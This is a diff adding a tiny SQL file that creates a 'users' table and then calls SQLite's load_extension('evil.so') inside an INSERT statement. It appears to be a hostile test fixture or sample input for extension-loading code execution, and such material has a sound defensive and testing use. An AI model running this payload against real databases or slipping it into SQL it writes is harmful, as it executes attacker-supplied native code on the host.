@@ -1,0 +1,4 @@
+CREATE TABLE users (id INTEGER PRIMARY KEY);
+
+INSERT INTO users (id)
+    SELECT load_extension('evil.so');
